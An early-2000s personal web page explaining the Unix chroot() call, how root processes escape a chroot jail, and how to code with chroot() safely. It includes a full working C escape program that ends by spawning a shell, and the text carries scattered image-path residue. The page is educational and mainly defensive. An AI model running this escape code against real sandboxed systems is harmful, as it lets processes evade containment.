[Index] [About] Simon's computing stuff
Author Simes
Created:  2002-05-12
Last changed:  2002-05-12
[Root]  [Prev] [Idx] [Next] http://www.bpfh.net/simes/computing/chroot-break.html

How to break out of a chroot() jail

This page details how the chroot() system call can be used to provide an additional layer of security when running untrusted programs. It also details how this additional layer of security can be circumvented.

An introduction to chroot()

chroot() is a Unix system call that is often used to provide an additional layer of security when untrusted programs are run. The kernel on Unix varients which support chroot() maintain a note of the root directory each process on the system has. Generally this is "/", but the chroot() system call can change this. When chroot() is successfully called, the calling process has itsidea of the root directory changed to the directory given as the argument to chroot(). For example after the following line ofcode, the process would see the directory "/foo/bar" as its root directory.




Important: When using chroot() in anger you need more than the above code; see below for details.

Note the use of the chdir() call before the chroot() call. This is to ensure that the working directory of the process is within the chroot()ed area before the chroot() call takes place. This is due to most implementations of chroot() not changing the working directory of the process to within the directory the process is now chroot()ed in.

This means that after the chroot() call, an open("/",O_RDONLY) would open the same directory as an open("/foo/bar",O_RDONLY) call before the chroot().

Due to the change in the root directory, the area which a chroot()ed program lives in will require various files and programs for sane operation. For example, the following files are required for the sane operation of the basic shell interpreter sh within a chroot()ed environment.

/bin/sh The binary for sh
/usr/ld.so.1 Dynamically link in the shared object libraries
/dev/zero Ensuring that the pages of memory used by shared objects are clear
/usr/lib/libc.so.1 The general C library
/usr/lib/libdl.so.1 The dynamic linking access library
/usr/lib/libw.so.1 Internationalisation library
/usr/lib/libintl.so.1 Internationalisation library
/usr/platform/SUNW,Ultra-1/lib/libc_psr.so.1 "Processor SpecificRuntime" - contains replacements for certain library functions (i.e. memcpy) hand coded in faster assembly.

It should be noted that the more complex and larger a program gets, the more support files it will use. For example, perlrequires a very large number of files and directories to work within a chroot()ed environment - 2610 files and 192 directories for a reasonable installation.

Breaking chroot()

Whilst chroot() is reasonably secure, a program can escape from its trap. So long as a program is run with root (ie UID 0) privilages it can be used to break out of a chroot()ed area. For a user to do this, they would need access to:

* C compiler or a Perl interpreter
* Security holes to gain root access

It should be notedthat this document was written with protecting web servers from rogue CGI scripts in mind. Therefore it is not unreasonable to assume that a user has access to a Perl interpreter. It is then a matter for the user to gain root access viasecurity holes on the box running the web server. Whilst this is outside the topic of the document, an attacker could make use of application programs which are setuid-root and have security holes within them. In a well maintained chroot() area such programs should not exist. However, it should be noted that maintaining a chroot()ed environment is a non-trival task, for example system patches which fix such security holes will not know about the copies of the programs within the chroot()ed area. Ensuring that there are no setuid-root executables within the padded cell is going to be a must.

To break out of a chroot()ed area, a program should do the following:

* Create a temporary directory in its current working directory

Open the current working directory

Note: only required if chroot() changes the calling program's working directory.

* Change the root directory of the process to the temporary directory using chroot().

Use fchdir() with the file descriptor of the opened directory to move the current working directory outside the chroot()ed area.

Note: only required if chroot() changes the calling program's working directory.

* Perform chdir("..") calls many times to move the current working directory into the real root directory.
* Change the root directory of the process to the current working directory, the real root directory, using chroot(".")

Once the above has been done, the program can run functions as required. A naturalfunction would be to exec() a command interpreter like sh over the current program. The following C program is an example of the attack outlined above. A Perl version is possible, although it is not shown below.

The following code is known to work under Solaris andLinux. It is likely to work under most (if not all) Unix varients which have the chroot() system call thanks to how it works[1].

Breaking chroot()
001   #include <stdio.h>
002   #include <errno.h>
003   #include <fcntl.h>
004   #include <string.h>
005   #include <unistd.h>
006   #include <sys/stat.h>
007   #include <sys/types.h>
009   /*
010   ** You should set NEED_FCHDIR to 1 if the chroot() on your
011   ** system changes the working directory of the calling
012   ** process to the same directory as the process was chroot()ed
013   ** to.
014   **
015   ** It is known that you do not need to set this value if you
016   ** running on Solaris 2.7 and below.
017   **
018   */
019   #define NEED_FCHDIR 0
021   #define TEMP_DIR "waterbuffalo"
023   /* Break out of a chroot() environment in C */
025   int main() {
026     int x;            /* Used to move up a directory tree */
027     int done=0;       /* Are we done yet ? */
028   #ifdef NEED_FCHDIR
029     int dir_fd;       /* File descriptor to directory */
030   #endif
031     struct stat sbuf; /* The stat() buffer */
033   /*034   ** First we create the temporary directory if it doesn't exist
035   */
036     if (stat(TEMP_DIR,&sbuf)<0) {
037       if (errno==ENOENT) {
038         if (mkdir(TEMP_DIR,0755)<0) {
039           fprintf(stderr,"Failed to create %s - %s\n", TEMP_DIR,
040                   strerror(errno));
041exit(1);
042         }
043       } else {
044         fprintf(stderr,"Failed to stat %s - %s\n", TEMP_DIR,045                 strerror(errno));
046         exit(1);
047       }
048     } else if (!S_ISDIR(sbuf.st_mode)) {
049       fprintf(stderr,"Error - %s is not a directory!\n",TEMP_DIR);
050       exit(1);
051     }
053   #ifdef NEED_FCHDIR
054   /*
055   ** Now we open the current working directory
056   **
057   ** Note: Only required if chroot() changes the calling program's
058   **       working directory to the directory given to chroot().
059   **
060   */
061     if ((dir_fd=open(".",O_RDONLY))<0) {
062       fprintf(stderr,"Failed to open "." for reading - %s\n",
063               strerror(errno));
064       exit(1);
065     }
066   #endif
068   /*
069   ** Next we chroot() to the temporary directory
070   */
071     if (chroot(TEMP_DIR)<0) {
072       fprintf(stderr,"Failed to chroot to %s - %s\n",TEMP_DIR,
073               strerror(errno));
074       exit(1);
075     }
077   #ifdef NEED_FCHDIR
078   /*
079   ** Partially break out of the chroot by doing an fchdir()
080   **
081   ** This only partially breaks out of the chroot() since whilst082   ** our current working directory is outside of the chroot() jail,
083   ** our root directory is still within it. Thus anything which refers
084   ** to "/" will refer to files under the chroot() point.
085   **
086   ** Note: Only required if chroot() changes thecalling program's
087   **       working directory to the directory given to chroot().
088   **
089   */
090     if (fchdir(dir_fd)<0) {
091       fprintf(stderr,"Failed to fchdir - %s\n",
092               strerror(errno));
093       exit(1);
094     }
095     close(dir_fd);
096   #endif
098   /*
099   ** Completely break out of the chroot by recursing up the directory
100   ** tree and doing a chroot to the current working directory (which will
101   ** be the real "/" at that point). We just do a chdir("..") lots of
102   ** times (1024 times for luck :). If we hit the real root directory before
103   ** we have finished the loop below it doesn't matter as .. in the root
104   ** directory is the same as . in the root.
105   **
106   ** We do the final break out by doing a chroot(".") which sets the root
107   ** directory to the current working directory - at this point the real
108   ** root directory.
109   */
110     for(x=0;x<1024;x++) {
111       chdir("..");112     }
113     chroot(".");
115   /*
116   ** We're finally out - so exec a shell in interactive mode
117   */
118     if (execl("/bin/sh","-i",NULL)<0) {
119       fprintf(stderr,"Failed to exec - %s\n",strerror(errno));
120       exit(1);
121     }
122   }

This topic has been discussed on the security column of SunWorld Online which is written by Carole Fennelly; the August 1999 and January 1999 editions cover most of the chroot() topics. In the August 1999 edition Carole goes into how to prevent the attack above from working - the method is a nasty hack involving fsdb (the file system debugger) and a temporary file system[2]. Basically the method involves fixing the ".." link at the root of the temporary file system so that it points to the root of the file system in much the same way that ".." at the root directory does.

It should be noted that the attack above is quite well known. The fact that it was possible[3] was alleuded to in "An evening with Berferd"[4] An exploit[5] against the wu-ftpd FTP daemon was also posted to the BugTraq mailing list on 1999-03-25. The post containing the exploit is held within the BugTraq archives - see http://www.securityfocus.com/archive/1/12962 for details.

Finally it should be noted that not all version of Unix are vulnerable to this attack. FreeBSD 4.x and above have a better chroot() system call. It can be made to fail if the process has any file descriptors open on a directory. This works by stopping the attack above which essentially works due to a file handle being open on a directory.

Have a look atthe FreeBSD 4.x manual page for chroot() for more details. Also have a look at the manual page for jail() which uses chroot() and can limit a process further under FreeBSD.

Coding with chroot() in anger

A very important aspect of writing secure code is the principle of "least privilage". That is, the code should run as the least powerful user which is able to do the task required.

The call to chroot() is normally used to ensure that code run after it can only access files at or below a given directory. Originally, chroot() was used to test systems software in a safe environment. It is now generally used to lock users into an area of the file system so that they can not look at or affect the important parts of the system they are on. For example, the most common use of chroot() is ensuring that when user of an anonymous FTP site can not view important system configuration files[6]

This normally means that the user will not be running as root. If this is the case the call to chroot() should look something like the following:


setuid(non zero UID);


Where non zero UID is the UID the user should be using. This should be a value other than 0, i.e. not the root user. If this is done there should be no way to gain root privilages unless an attacker uses something within the chroot() jail to gain those privilages.

The seteuid() call should not be used if it can be helped as this does not change the real UID of the process, only its effective UID. It is possible of a process which has a real UID of 0 to do a seteuid(0) to regain root privilages even if its effective UID is not 0 - its the real UID which matters.

There are some cases where it is not easily possible to make use of the setuid() call. In these cases, seteuid() could be looked at. However the developer has to bear in mind that it is a simple hop-skip-seteuid(0) for a process to regain its root privilages and then use the method above to break out of the chroot() jail. The only real reason for making use of the seteuid() call is if the process needs to do something as root on behalf of the user. One example of this is the use of PASV FTP connections as the FTP server will often use ports in the range of 1 to 1024 which requires root privilages.

Such situations can be coded around, however they tend to have their own problems as well.


The root directory (i.e. /) is stored within each process's entry in the process table. All the chroot() system call does is to change the location of the root directory for that process.

Under Solaris the location of the root directory is stored in the user structure as a pointer to a vnode structure. i.e. user.u_rdir is a struct vnode *. The user structure, available from/usr/include/sys/user.h, can be found by referencing the p_user entry in the proc structure which even process is given. See /usr/include/sys/proc.h for details of the proc structure.

[2] It involves a temporary file system as fsck would complain bitterly if it was run over a file system which had this protection method run over it.
[3] Which got me thinking in the first place about how you could do the above

"An evening with Berford in which a Cracker is Lured, Endured and Studied" is a document written by Bill Cheswick which cronicles a crackers actitivies after being lured in a chroot()ed padded cell.

[5] The realpath() buffer over-run is used in this one
[6] i.e. /etc/passwd on systems which do not use a shadow password file[Root]  [Prev] [Idx] [Next] http://www.bpfh.net/simes/computing/chroot-break.html
 [Index] [About] Powered by WML
Author Simes
Created:  2002-05-12
Last changed:  2002-05-12
More by the same author Comments? EMailwebmaster@bpfh.net
© Simes